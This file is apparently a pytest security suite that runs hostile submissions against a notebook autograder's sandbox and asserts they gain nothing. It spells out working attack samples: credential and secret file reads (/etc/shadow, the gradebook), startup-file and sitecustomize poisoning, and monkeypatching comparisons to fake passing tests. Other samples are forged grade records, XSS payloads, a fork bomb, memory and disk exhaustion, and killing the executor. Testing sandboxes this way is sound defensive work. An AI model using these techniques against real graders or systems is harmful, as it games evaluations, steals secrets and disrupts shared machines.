"""The attack and fault suite: hostile and broken submissions against the real grader.

One folder is graded once (module fixture, sandboxed, two workers): an honest student with
the full solution, and one submission per attack (several attacks share a submission where
they cannot interfere). Each test asserts the expected outcome of its case — score, status,
message — and, for all of them, that the honest student keeps full marks, that nothing the
sandbox hides reached the attacker's outputs, and that the gradebook lost nothing.

Most hostile submissions drop the lab's widget and timing cells (plain student cells) to
keep the suite under a few minutes; the attack code goes in an extra cell at the place
where it matters. ``AUTOGRADER_TEST_TIMEOUT`` raises the per-submission wall clock on a
loaded machine (default 120 s: one submission — the infinite loop — always uses all of it).
"""
import csv
import json
import os
import re
import socket
import subprocess
import threading
import time

import pytest

from autograder import course
from autograder.demo import PLANTED_BUG
from autograder.grade import SubmissionResult, grade_folder, write_gradebook
from autograder.notebook import nbgrader_meta
from autograder.release import sample_submission

LAB = "lab01_kv_cache"
TIMEOUT = float(os.environ.get("AUTOGRADER_TEST_TIMEOUT", "120"))
RELEASE = os.path.join(course.REPO, "labs", LAB, f"{LAB}.ipynb")
FULL = 15.0
CARROT = "SECRET-CARROT-7f3a"  # planted in files the sandbox must hide
SECRET = "attack-suite-secret-5b1d9e"  # fixed: each student's check inputs are the same every run


def copy(nb):
    return json.loads(json.dumps(nb))


def index_of(nb, grade_id):
    return next(i for i, c in enumerate(nb["cells"]) if nbgrader_meta(c).get("grade_id") == grade_id)


def code_cell(source, **meta):
    return {"cell_type": "code", "metadata": meta, "source": source, "outputs": [],
            "execution_count": None, "id": f"x{abs(hash(source)) % 10**8}"}


def insert_after(nb, grade_id, source):
    nb = copy(nb)
    nb["cells"].insert(index_of(nb, grade_id) + 1, code_cell(source))
    return nb


def light(nb):
    """Without the widget and the timing measurement (plain student cells): a cheaper run."""
    nb = copy(nb)
    nb["cells"] = [c for c in nb["cells"] if nbgrader_meta(c) or c["cell_type"] != "code"
                   or not any(k in "".join(c["source"]) for k in ("kv_cache_widget", "time_ms("))]
    return nb


def write(folder, student, nb, name=f"{LAB}.ipynb"):
    d = folder / student / LAB
    d.mkdir(parents=True, exist_ok=True)
    path = d / name
    path.write_text(nb if isinstance(nb, str) else json.dumps(nb))
    return path


# --- hostile code (runs in the student's kernel) -------------------------------------------

SNOOP = r'''
import os, glob, socket, sqlite3, importlib.util, urllib.request
def _try(label, fn):
    try:
        got = fn()
        print(f"FOUND {label}: {str(got)[:200]}")
    except BaseException as exc:
        print(f"DENIED {label}: {type(exc).__name__}")
for label, path in {TARGETS!r}.items():
    _try("read " + label, lambda p=path: open(p, "rb").read(4000))
_try("write gradebook", lambda: open({GRADEBOOK!r}, "r+b").write(b"x"))
_try("sqlite gradebook", lambda: sqlite3.connect({GRADEBOOK!r}).execute("delete from grade").rowcount)
_try("list workdir", lambda: [x for x in os.listdir({WORKDIR!r}) if x != "results"] or 1/0)  # results/: the bare skeleton above its own run folder
_try("list submissions", lambda: os.listdir({SUBMISSIONS!r}))
_try("glob solutions", lambda: glob.glob("/**/lab01_kv_cache.ipynb", recursive=False) or 1/0)
def _walk():
    import sys
    skip = ("/proc", "/sys", "/usr", "/dev", sys.prefix, sys.base_prefix)
    found, own = [], os.path.dirname(os.path.expanduser("~"))
    for r, d, fs in os.walk("/"):
        if r.startswith(own) or "/viz" in r:  # its own run folder; the public widgets
            continue
        d[:] = [x for x in d if not os.path.join(r, x).startswith(skip)]
        found += [os.path.join(r, f) for f in fs if f in ("gradebook.db", "secret", "planted-carrot.txt")
                  or f.endswith("kv_cache.ipynb") or (f == "kv_cache.py" and "cases" not in r)]
    return found or 1/0
_try("walk for secrets", _walk)
_try("env secret", lambda: os.environ["AUTOGRADER_SECRET"])
_try("tcp to the host", lambda: socket.create_connection(("127.0.0.1", {PORT}), timeout=3))
_try("tcp outside", lambda: socket.create_connection(("1.1.1.1", 80), timeout=3))
_try("http", lambda: urllib.request.urlopen("http://example.com", timeout=3).read(100))
_try("import reference", lambda: __import__("llmopt.kv_cache").kv_cache.KVCache)
def _by_path():
    import llmopt
    p = os.path.join(os.path.dirname(llmopt.__file__), "kv_cache.py")
    spec = importlib.util.spec_from_file_location("ref", p)
    m = importlib.util.module_from_spec(spec); spec.loader.exec_module(m); return m.generate
_try("load reference by path", _by_path)
'''

CHEAT = r'''
try:
    from llmopt.kv_cache import kv_cache_bytes, cached_attention, KVCache, generate
    print("FOUND reference import")
except ImportError as exc:
    print("DENIED reference import:", type(exc).__name__)
'''

PATCH = r'''
import sys, numpy as np, torch, torch.testing, llmopt.testing
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
torch.testing.assert_close = lambda *a, **k: None
llmopt.testing.assert_close = lambda *a, **k: None
assert_close = lambda *a, **k: None
class AlwaysEqual:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = object.__hash__
_real_bytes = kv_cache_bytes
kv_cache_bytes = lambda *a, **k: AlwaysEqual()
sys.exit("leaving early")  # IPython catches SystemExit: the run goes on
'''

TRANSFORMER = r'''
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\n"])
'''

POISON = r'''
import os, site, sys
payload = "print('POISONED-BY-A_POISON'); import torch; torch.allclose = lambda *a, **k: True\n"
home = os.path.expanduser("~")
targets = [os.path.join(home, ".ipython/profile_default/startup/00-poison.py"),
           "/tmp/poison.py", "/dev/shm/poison.py", "/var/tmp/poison.py",
           os.path.join(site.getsitepackages()[0], "sitecustomize.py"),
           os.path.join(site.getsitepackages()[0], "poison.pth"),
           os.path.join(sys.base_prefix, "lib", "poison.py"),
           os.path.join(os.path.dirname(__import__("llmopt").__file__), "testing.py"),
           os.path.join(os.path.dirname(__import__("autograder").__file__), "record.py"),
           os.path.join(home, "..", "..", "poison.py"),
           os.path.join(home, "..", "..", "result.json")]
for t in targets:
    try:
        with open(t, "a") as f:
            f.write(payload)
        print("WROTE", t)
    except OSError as exc:
        print("DENIED", t, type(exc).__name__)
'''

FLOOD = r'''
import sys
from IPython.display import HTML, Javascript, display
for _ in range(8):
    sys.stdout.write("o" * 2**20)
    sys.stderr.write("e" * 2**20)
for i in range(20000):
    print("line", i)
display(HTML("<script>alert('XSS-OUT')</script><img src=x onerror=alert('XSS-IMG')>"))
display(Javascript("alert('XSS-JS')"))
display({"image/png": 'AAAA" onerror="alert(\'XSS-PNG\')', "text/plain": "png"}, raw=True)
'''

SEGFAULT = "import ctypes\nctypes.string_at(0)\n"
OOM = "hog = []\nwhile True:\n    hog.append(b'x' * 2**28)  # touched pages, not lazily zeroed ones\n"
LOOP = ("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        "while True:\n    try:\n        pass\n    except BaseException:\n        pass\n")
KILL_EXECUTOR = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
FORK = r'''
import os, subprocess, time, signal
kids = []
try:
    for _ in range(100000):
        pid = os.fork()
        if pid == 0:
            time.sleep(3600)
            os._exit(0)
        kids.append(pid)
except OSError as exc:
    print(f"fork refused after {len(kids)} children: {type(exc).__name__}")
for pid in kids:
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
# background processes left running: a daemon that ignores SIGTERM/SIGHUP and a setsid sleeper
beat = os.path.expanduser("~/heartbeat")
daemon = ("import os, signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
          "signal.signal(signal.SIGHUP, signal.SIG_IGN)\nif os.fork(): os._exit(0)\nos.setsid()\n"
          f"while True:\n    open({beat!r}, 'w').write(str(time.time())); time.sleep(0.2)\n")
subprocess.Popen(["python3", "-c", daemon], start_new_session=True)
subprocess.Popen(["sleep", "3600"], start_new_session=True)
time.sleep(1)
print("daemon started:", os.path.exists(beat))
'''

# A later cell tries to change what a hidden check recorded: files anywhere it can reach,
# the channel itself (a second record of the same case, a corrupt frame), and the recorder.
REWRITE = r'''
import os, json, glob
from autograder.record import check, frame
channel = os.environ.get("AUTOGRADER_RECORDS", "")
hits = [p for base in (os.path.expanduser("~/.."), "/tmp", os.path.dirname(os.path.dirname(channel)))
        for p in glob.glob(os.path.join(base, "**", "*.safetensors"), recursive=True)][:5]
print("record files seen:", hits)
for p in hits:
    try:
        open(p, "wb").write(b"forged"); print("REWROTE", p)
    except OSError as exc:
        print("DENIED", p, type(exc).__name__)
print("channel:", bool(channel))
GOOD = {GOOD!r}
exec(GOOD)  # a correct KVCache, defined only now
check("KVCache", KVCache)  # the same check again: the first record must stand
with open(channel, "wb", buffering=0) as f:
    f.write(frame("KVCache", 0, b"", None, 0.0))  # an empty 'pass' for case 0
    f.write(b"garbage that is no frame header\n" * 3)
try:
    os.unlink(channel); print("UNLINKED channel")
except OSError as exc:
    print("DENIED unlink channel", type(exc).__name__)
'''

# Outputs far bigger than the check returns: 4M elements where one number / a few tokens are
# due — from the function itself (generate) and as forged frames sent before the hidden check
# (kv_cache_bytes: the first record of a case wins), one with a header that lies about sizes.
HUGE = {"generate_impl": ("def generate(", "def _generate_real(")}
HUGE_FNS = r'''
import os, json, struct, torch
from safetensors.torch import save
from autograder.record import frame
def generate(model, input_ids, max_new_tokens, use_cache=True, eos_id=None):
    cache = KVCache(1, 1, 1, 1, 1)  # the method on paper (dead code): the outputs are the attack
    if cache is None:
        model(input_ids, kv_cache=cache)
    return torch.zeros(4_000_000, dtype=torch.int64)
big = save({"bytes": torch.arange(4_000_000, dtype=torch.int64)})
head = json.dumps({"bytes": {"dtype": "I64", "shape": [10**12], "data_offsets": [0, 8]}}).encode()
liar = struct.pack("<Q", len(head)) + head + b"\0" * 8
with open(os.environ["AUTOGRADER_RECORDS"], "wb", buffering=0) as f:
    for case in range(3):
        f.write(frame("kv_cache_bytes", case, big))
    f.write(frame("kv_cache_bytes", 3, liar))
'''

# Filling the disk: 1.5 GB into its home and /tmp, and 50 MB straight onto the kernel's stderr.
DISK = r'''
import os
written = 0
for folder in (os.path.expanduser("~"), "/tmp"):
    for i in range(12):
        try:
            with open(os.path.join(folder, f"fill{i}.bin"), "wb") as f:
                for _ in range(128):
                    f.write(b"x" * 2**20)
                    written += 2**20
        except OSError as exc:
            print("stopped at", written // 2**20, "MB:", type(exc).__name__)
            break
print("wrote", written // 2**20, "MB")
for _ in range(50):
    os.write(2, b"e" * 2**20)
'''

MARKDOWN_XSS = ("My answer <script>alert('XSS-MD')</script> <img src=x onerror=alert('XSS-MDIMG')> "
                "[click](javascript:alert('XSS-LINK')) and $a < b$.")


# --- the graded folder -------------------------------------------------------------------

class Listener:
    """A TCP server on the host's loopback: a sandboxed kernel must not reach it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self.stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
                self.accepted += 1
                conn.close()
            except OSError:
                pass


def seed_gradebook(workdir):
    """A gradebook that already holds zoe's grade from an earlier run (it must survive)."""
    from autograder.notebook import grade_cells

    with open(course.source_notebook(LAB)) as f:
        source = json.load(f)
    out_dir = workdir / "results" / "zoe" / LAB
    out_dir.mkdir(parents=True)
    sub = sample_submission(LAB, RELEASE)
    from autograder.notebook import sanitize
    with open(RELEASE) as f:
        release = json.load(f)
    (out_dir / f"{LAB}.ipynb").write_text(json.dumps(sanitize(sub, source, release)))
    cells = {gc.grade_id: {"score": gc.points, "max": gc.points, "message": "ok"} for gc in grade_cells(source)}
    zoe = SubmissionResult("zoe", LAB, "graded", FULL, FULL, "all checks passed", cells, str(out_dir))
    assert write_gradebook(LAB, [zoe], str(workdir)) == {}


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    mp = pytest.MonkeyPatch()
    mp.setenv("AUTOGRADER_SECRET", SECRET)
    try:
        yield _graded(tmp_path_factory)
    finally:
        mp.undo()


def _graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("attacks")
    subs, workdir = root / "submissions", root / "grading"
    workdir.mkdir()
    (workdir / "secret").write_text(CARROT + "-file-secret")  # a secret file to go after
    seed_gradebook(workdir)
    gradebook = str(workdir / "gradebook.db")
    (workdir / "planted-carrot.txt").write_text(CARROT)
    listener = Listener()

    full = sample_submission(LAB, RELEASE)
    buggy = sample_submission(LAB, RELEASE, replace=PLANTED_BUG)
    release = sample_submission(LAB, RELEASE, solved=False)
    alice = write(subs, "alice", full)
    alice.parent.joinpath("notes.txt").write_text(CARROT)

    # not gradable without running anything
    write(subs, "b_invalid", '{"cells": [ {"cell_type": "code", "source": "x = ')
    (subs / "b_symlink" / LAB).mkdir(parents=True)
    os.symlink(alice, subs / "b_symlink" / LAB / f"{LAB}.ipynb")
    write(subs, "b_two", light(full), "one.ipynb")
    write(subs, "b_two", light(full), "two.ipynb")

    # a renamed notebook with a plausible timestamp
    p = write(subs, "c_renamed", light(full), "lab01 (1).ipynb")
    p.parent.joinpath("timestamp.txt").write_text("2026-11-20 10:00:00.000000 UTC")

    # forged metadata, points and outputs; duplicate cell ids and grade ids; a future timestamp
    forged = light(release)
    for c in forged["cells"]:
        meta = nbgrader_meta(c)
        if meta.get("grade"):
            meta["points"] = 100
        c["id"] = "same-id"
        if c["cell_type"] == "code":
            c["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                             "data": {"text/plain": "100.0"}}]
    i = index_of(forged, "check_kv_cache_bytes")
    fake = code_cell("print(100.0)\n100.0", nbgrader={"grade": True, "solution": False, "locked": True,
                                                       "grade_id": "check_kv_cache_bytes", "points": 100})
    forged["cells"].insert(i, fake)  # first copy of the grade id: the real one comes after it
    forged["cells"].append(code_cell("100.0", nbgrader={"grade": True, "solution": False,
                                                        "grade_id": "bonus", "points": 1000}))
    forged["cells"][index_of(forged, "check_generate")]["cell_type"] = "markdown"
    forged["metadata"]["kernelspec"] = {"name": "evil", "display_name": "evil", "language": "python"}
    p = write(subs, "d_forger", forged)
    p.parent.joinpath("timestamp.txt").write_text("2031-01-01 00:00:00.000000 UTC")

    # edited, deleted and reordered test cells (with a planted bug: KVCache is wrong)
    edited = light(buggy)
    edited["cells"][index_of(edited, "check_KVCache")]["source"] = "pass  # the tests are fine, promise"
    del edited["cells"][index_of(edited, "check_generate")]
    moved = edited["cells"].pop(index_of(edited, "check_cached_attention"))
    edited["cells"].append(moved)
    write(subs, "e_editor", edited)

    write(subs, "f_patcher", insert_after(light(buggy), "kv_cache_bytes_impl", PATCH))
    write(subs, "g_transformer", insert_after(light(buggy), "KVCache_impl", TRANSFORMER))
    write(subs, "a_poison", insert_after(light(buggy), "check_kv_cache_bytes", POISON))
    targets = {"solution notebook": course.source_notebook(LAB),
               "hidden checks": os.path.join(course.REPO, "autograder", "checks", f"{LAB}.py"),
               "reference module": os.path.join(course.REPO, "lib", "llmopt", "kv_cache.py"),
               "course secret": str(workdir / "secret"), "gradebook": gradebook,
               "carrot": str(workdir / "planted-carrot.txt"), "alice's notes": str(alice.parent / "notes.txt"),
               "alice's notebook": str(alice), "zoe's result": str(workdir / "results" / "zoe" / LAB / f"{LAB}.ipynb"),
               "shadow": "/etc/shadow", "host root": "/root/.bash_history"}
    snoop = SNOOP.replace("{TARGETS!r}", repr(targets)).replace("{GRADEBOOK!r}", repr(gradebook)) \
        .replace("{WORKDIR!r}", repr(str(workdir))).replace("{SUBMISSIONS!r}", repr(str(subs))) \
        .replace("{PORT}", str(listener.port))
    snooper = light(release)
    for gid in ("kv_cache_bytes_impl", "cached_attention_impl", "KVCache_impl", "generate_impl"):
        snooper["cells"][index_of(snooper, gid)]["source"] = CHEAT
    write(subs, "h_snoop", insert_after(snooper, "kv_cache_bytes_impl", snoop))

    flood = insert_after(light(full), "check_generate", FLOOD)
    flood["cells"].insert(1, {"cell_type": "markdown", "metadata": {}, "source": MARKDOWN_XSS})
    flood["cells"].insert(2, {"cell_type": "raw", "metadata": {}, "source": "<script>alert('XSS-RAW')</script>"})
    flood["cells"][index_of(flood, "q_phases")]["source"] = MARKDOWN_XSS
    write(subs, "j_flood", flood)

    # family 1: answers deleted, or retyped as markdown: the release's stubs come back
    deleted = light(release)
    deleted["cells"] = [c for c in deleted["cells"] if not nbgrader_meta(c).get("solution")]
    write(subs, "p_deleted", deleted)
    retyped = light(release)
    for c in retyped["cells"]:
        if nbgrader_meta(c).get("solution") and c["cell_type"] == "code":
            c["cell_type"] = "markdown"
            c.pop("outputs", None)
            c.pop("execution_count", None)
    write(subs, "q_retyped", retyped)
    # family 2: records rewritten after the check
    with open(course.source_notebook(LAB)) as f:
        good = next("".join(c["source"]) for c in json.load(f)["cells"]
                    if nbgrader_meta(c).get("grade_id") == "KVCache_impl")
    write(subs, "r_rewriter", insert_after(light(buggy), "check_generate",
                                           REWRITE.replace("{GOOD!r}", repr(good))))
    # family 4: a hostile record
    huge = light(full)
    for gid, (old, new) in HUGE.items():
        cell = huge["cells"][index_of(huge, gid)]
        cell["source"] = "".join(cell["source"]).replace(old, new)
    huge["cells"].insert(index_of(huge, "check_kv_cache_bytes"), code_cell(HUGE_FNS))
    write(subs, "s_huge", huge)
    # family 5: disk and log floods
    write(subs, "t_disk", insert_after(light(full), "check_generate", DISK))

    write(subs, "k_segfault", insert_after(light(full), "check_kv_cache_bytes", SEGFAULT))
    write(subs, "l_oom", insert_after(light(full), "check_kv_cache_bytes", OOM))
    write(subs, "m_fork", insert_after(light(full), "check_kv_cache_bytes", FORK))
    write(subs, "n_loop", insert_after(light(full), "check_kv_cache_bytes", LOOP))
    write(subs, "o_kill_executor", insert_after(light(full), "check_kv_cache_bytes", KILL_EXECUTOR))

    with open(gradebook, "rb") as f:
        gradebook_before = f.read()
    t0 = time.perf_counter()
    results = grade_folder(LAB, str(subs), str(root / "grades.csv"), jobs=2, workdir=str(workdir),
                           timeout=TIMEOUT, progress=False)
    seconds = time.perf_counter() - t0
    listener.stop = True
    with open(root / "grades.csv") as f:
        rows = {r["student"]: r for r in csv.DictReader(f)}
    return {"results": {r.student: r for r in results}, "rows": rows, "workdir": workdir,
            "listener": listener, "seconds": seconds, "subs": subs, "gradebook_before": gradebook_before}


def output_texts(cells):
    """Every output of ``cells`` as text (streams, data, errors; sources excluded)."""
    parts = []
    for cell in cells:
        for out in cell.get("outputs") or []:
            for key in ("text", "evalue", "traceback"):
                value = out.get(key)
                parts.append("".join(value) if isinstance(value, list) else str(value or ""))
            for mime, value in (out.get("data") or {}).items():
                parts.append(mime + ": " + ("".join(value) if isinstance(value, list) else str(value)))
    return "\n".join(parts)


def texts(result):
    """Everything the executed notebook of ``result`` shows."""
    return output_texts(result.executed_cells())


def secrets_of(g):
    # (hidden test *source* is no secret: it only names the check; a kernel can read its own
    # cells. It never reaches feedback through a grade cell, see test_feedback_html_is_sanitised.)
    return [CARROT, SECRET, "SQLite format 3", "def verify_", "POISONED-BY-A_POISON"]


# --- every case --------------------------------------------------------------------------

def test_honest_student_keeps_full_marks(graded):
    alice = graded["results"]["alice"]
    assert alice.status == "graded" and alice.score == alice.max_score == FULL, alice.message
    assert "POISONED" not in texts(alice)


def test_no_secret_reached_any_output(graded):
    for student, r in graded["results"].items():
        shown = texts(r) + r.message + json.dumps(r.cells)
        for secret in secrets_of(graded):
            assert secret not in shown, (student, secret)


def test_invalid_json_is_not_gradable(graded):
    r = graded["results"]["b_invalid"]
    assert r.status == "not_gradable" and "not valid notebook JSON" in r.message and r.score == 0


def test_symlinked_notebook_is_not_gradable(graded):
    r = graded["results"]["b_symlink"]
    assert r.status == "not_gradable" and "symbolic link" in r.message


def test_two_unnamed_notebooks_are_not_gradable(graded):
    r = graded["results"]["b_two"]
    assert r.status == "not_gradable" and "none named" in r.message


def test_renamed_notebook_is_graded_with_a_note(graded):
    r = graded["results"]["c_renamed"]
    assert r.status == "graded" and r.score == FULL
    assert "graded lab01 (1).ipynb (expected lab01_kv_cache.ipynb)" in r.message
    assert r.timestamp.startswith("2026-11-20")


def test_forged_metadata_points_outputs_and_ids_gain_nothing(graded):
    r = graded["results"]["d_forger"]
    assert r.status == "graded" and r.score == 0 and r.max_score == FULL, r.message
    from autograder.notebook import grade_cells
    with open(course.source_notebook(LAB)) as f:
        assert set(r.cells) == {gc.grade_id for gc in grade_cells(json.load(f))}  # no bonus cell
    assert "not implemented" in r.cells["check_kv_cache_bytes"]["message"]


def test_forged_future_timestamp_is_ignored(graded):
    r = graded["results"]["d_forger"]
    assert r.timestamp == "" and "timestamp.txt ignored (in the future" in r.message
    assert not (graded["workdir"] / "submitted" / "d_forger" / LAB / "timestamp.txt").exists()
    assert (graded["workdir"] / "submitted" / "c_renamed" / LAB / "timestamp.txt").read_text().startswith("2026-11-20")
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{graded['workdir']}/gradebook.db", course.COURSE_ID) as gb:
        assert gb.find_submission(LAB, "d_forger").timestamp is None
        assert str(gb.find_submission(LAB, "c_renamed").timestamp).startswith("2026-11-20 10:00")


def test_edited_deleted_reordered_tests_are_restored(graded):
    r = graded["results"]["e_editor"]
    assert r.status == "graded", r.message
    assert r.cells["check_KVCache"]["score"] == 0  # the planted bug is still caught
    assert r.cells["check_cached_attention"]["score"] == 3  # moved to the end: still runs
    assert r.cells["check_kv_cache_bytes"]["score"] == 2
    assert r.cells["check_generate"]["score"] < 4  # deleted, put back, and still catches the bug


def test_monkeypatched_comparisons_and_always_equal_gain_nothing(graded):
    r = graded["results"]["f_patcher"]
    assert r.status == "graded" and "SystemExit" in texts(r)  # sys.exit did not stop the run
    assert r.cells["check_KVCache"]["score"] == 0
    assert r.cells["check_kv_cache_bytes"]["score"] == 0  # an object that equals everything is no number
    assert "AlwaysEqual" in r.cells["check_kv_cache_bytes"]["message"]
    assert r.cells["check_generate"]["score"] < 4


def test_input_transformer_blanking_later_cells_gains_nothing(graded):
    r = graded["results"]["g_transformer"]
    assert r.status == "graded"
    assert r.cells["check_KVCache"]["score"] == 0 and "not run" in r.cells["check_KVCache"]["message"]
    assert r.cells["check_generate"]["score"] == 0
    assert r.score == 5


def test_startup_file_and_poisoned_caches_stay_in_their_own_run(graded):
    r = graded["results"]["a_poison"]
    shown = texts(r)
    assert r.status == "graded" and r.cells["check_KVCache"]["score"] == 0  # gained nothing
    assert r.cells["check_generate"]["score"] < 4
    assert "WROTE" in shown and "DENIED" in shown  # it ran
    for line in shown.split("\n"):
        if "WROTE" in line:  # only its own home and its private /tmp, /dev/shm
            assert any(k in line for k in ("/.ipython/", "WROTE /tmp/", "WROTE /dev/shm/")), line
    for student, other in graded["results"].items():
        if student != "a_poison":
            assert "POISONED" not in texts(other), student
    assert not os.path.exists("/tmp/poison.py")


def test_reading_hidden_files_network_and_the_reference_fail(graded):
    r = graded["results"]["h_snoop"]
    shown = texts(r)
    assert "DENIED read solution notebook" in shown and "DENIED tcp to the host" in shown  # it ran
    assert "FOUND" not in shown, [line for line in shown.split("\n") if "FOUND" in line]
    assert graded["listener"].accepted == 0
    assert r.status == "graded" and r.score == 0


def test_gradebook_is_complete_and_unharmed(graded):
    from nbgrader.api import Gradebook

    results = graded["results"]
    with Gradebook(f"sqlite:///{graded['workdir']}/gradebook.db", course.COURSE_ID) as gb:
        def code_grades(student):
            sub = gb.find_submission(LAB, student)
            return [g for nb in sub.notebooks for g in nb.grades if g.cell.cell_type == "code"]

        zoe = code_grades("zoe")  # graded before, not in this folder: still there
        assert sum(g.auto_score or 0 for g in zoe) == FULL
        for student, r in results.items():
            if r.status != "graded":
                continue
            grades = code_grades(student)
            assert sum(g.auto_score or 0 for g in grades) == pytest.approx(r.score), student
            assert sum(g.max_score for g in grades) == FULL, student
        students = {s.id for s in gb.students}
    assert {s for s, r in results.items() if r.status == "graded"} | {"zoe"} <= students


def test_output_flood_is_capped_and_html_is_dropped(graded):
    r = graded["results"]["j_flood"]
    assert r.status == "graded" and r.score == FULL, r.message
    size = os.path.getsize(os.path.join(r.out_dir, "executed.ipynb"))
    assert size < 24 * 2**20
    assert "output truncated" in texts(r)
    autograded = graded["workdir"] / "autograded" / "j_flood" / LAB / f"{LAB}.ipynb"
    assert os.path.getsize(autograded) < 4 * 2**20
    cells = json.loads(autograded.read_text())["cells"]
    shown = output_texts(cells)  # what feedback and the formgrader render: outputs ...
    assert "text/html" not in shown and "javascript" not in shown and "XSS-PNG" not in shown
    assert "XSS-OUT" not in shown
    student_text = "\n".join("".join(c["source"]) if isinstance(c["source"], list) else c["source"]
                              for c in cells if c["cell_type"] != "code")  # ... and markdown
    assert "XSS-MD" in student_text and "XSS-RAW" in student_text
    assert not re.search(r"<(script|img)", student_text, re.I)
    assert "javascript:" not in student_text


def test_feedback_html_is_sanitised(graded):
    from nbgrader.apps import NbGraderAPI

    config = course.nbgrader_config(workdir=str(graded["workdir"]),
                                    release_dir=str(graded["workdir"] / "release"))
    out = NbGraderAPI(config=config).generate_feedback(LAB, "j_flood")
    assert out["success"], out.get("log")
    html = (graded["workdir"] / "feedback" / "j_flood" / LAB / f"{LAB}.html").read_text()
    assert "XSS-MD" in html and "XSS-RAW" in html  # the student's text is shown ...
    assert not re.search(r"<script[^>]*>[^<]*XSS", html)  # ... but never as markup
    assert not re.search(r"<img[^>]*onerror", html, re.I)
    assert not re.search(r"href=[\"']?\s*javascript:", html, re.I)
    assert not re.search(r"<iframe|<object|<embed", html, re.I)
    assert "BEGIN HIDDEN TESTS" not in html and "check(\"kv_cache_bytes\"" not in html


def test_segfault_keeps_the_checks_it_reached(graded):
    r = graded["results"]["k_segfault"]
    assert r.status == "graded" and "kernel died" in r.message and r.score == 2


def test_memory_exhaustion_is_contained(graded):
    r = graded["results"]["l_oom"]
    assert r.status == "graded" and "out of memory" in r.message and r.score == 2, r.message
    assert graded["results"]["alice"].score == FULL


def test_fork_bomb_and_background_processes_are_contained(graded):
    r = graded["results"]["m_fork"]
    shown = texts(r)
    assert "fork refused after" in shown and "daemon started: True" in shown
    assert r.status == "graded" and r.score == FULL, r.message
    assert not os.path.exists(os.path.join(r.out_dir, "run"))  # its run folder is gone ...
    leftover = subprocess.run(["pgrep", "-f", "signal.SIG_IGN"], capture_output=True, text=True).stdout
    assert not leftover.strip()


def test_infinite_loop_ignoring_sigint_is_stopped(graded):
    r = graded["results"]["n_loop"]
    assert r.status == "graded" and "stopped after" in r.message and r.score == 2, r.message


def test_killing_the_executor_is_a_retryable_error_not_a_zero(graded):
    r = graded["results"]["o_kill_executor"]
    assert r.status == "error" and "retry" in r.message and "without writing a status" in r.message
    assert graded["rows"]["o_kill_executor"]["status"] == "error"


def test_suite_fits_its_budget(graded):
    # two workers; one submission (the infinite loop) always uses its whole wall clock
    n = len(graded["results"])
    assert graded["seconds"] < TIMEOUT + n * 60, f"graded {n} submissions in {graded['seconds']:.0f} s"


def _solution_code_in(r):
    autograded = r.out_dir and os.path.join(r.out_dir, f"{LAB}.ipynb")
    with open(autograded) as f:
        text = f.read()
    return "self.v[layer" in text or "BEGIN SOLUTION" in text


def test_deleted_answers_score_zero_and_see_no_solution(graded):
    for student in ("p_deleted", "q_retyped"):
        r = graded["results"][student]
        assert r.status == "graded" and r.score == 0, (student, r.message)
        assert "NotImplementedError" in json.dumps(r.cells), student
        assert not _solution_code_in(r), student
        assert "self.v[layer" not in texts(r), student
        fed = graded["workdir"] / "autograded" / student / LAB / f"{LAB}.ipynb"
        assert "self.v[layer" not in fed.read_text(), student


def test_rewritten_records_change_nothing(graded):
    r = graded["results"]["r_rewriter"]
    shown = texts(r)
    assert "channel: True" in shown and "REWROTE" not in shown and "UNLINKED" not in shown, shown[-2000:]
    assert r.status == "graded"
    assert r.cells["check_KVCache"]["score"] == 0, r.cells["check_KVCache"]["message"]  # the first record stands
    assert r.cells["check_kv_cache_bytes"]["score"] == 2


def test_a_huge_record_costs_its_own_checks_only(graded):
    import resource

    r = graded["results"]["s_huge"]
    assert r.status == "graded", r.message
    assert r.cells["check_kv_cache_bytes"]["score"] == 0 and r.cells["check_generate"]["score"] == 0
    assert "bytes: shape (4000000,), expected ()" in r.cells["check_kv_cache_bytes"]["message"]
    assert "bytes: shape (1000000000000,)" in r.cells["check_kv_cache_bytes"]["message"]
    assert "ids: shape (4000000,)" in r.cells["check_generate"]["message"]
    assert r.cells["check_KVCache"]["score"] == 3
    assert 0 < r.verify_peak_bytes < 1.5 * 2**30, r.verify_peak_bytes
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 < 1.5 * 2**30  # the grader
    assert graded["results"]["alice"].score == FULL


def _tree_bytes(path):
    return sum(os.path.getsize(os.path.join(d, f)) for d, _, fs in os.walk(path) for f in fs
               if not os.path.islink(os.path.join(d, f)))


def test_a_disk_filler_leaves_nothing_behind(graded):
    r = graded["results"]["t_disk"]
    shown = texts(r)
    assert r.status == "graded" and r.score == FULL, r.message  # every check was recorded
    assert "filled its disk space" in r.message
    if "wrote" in shown:  # the executed notebook may be lost: its disk was full
        assert "stopped at" in shown and int(re.search(r"wrote (\d+) MB", shown).group(1)) < 1024
    assert not os.path.exists(os.path.join(r.out_dir, "run"))
    assert _tree_bytes(graded["workdir"] / "results" / "t_disk") < 300 * 2**20
    assert os.path.getsize(os.path.join(r.out_dir, "executor.log")) < 2 * 2**20
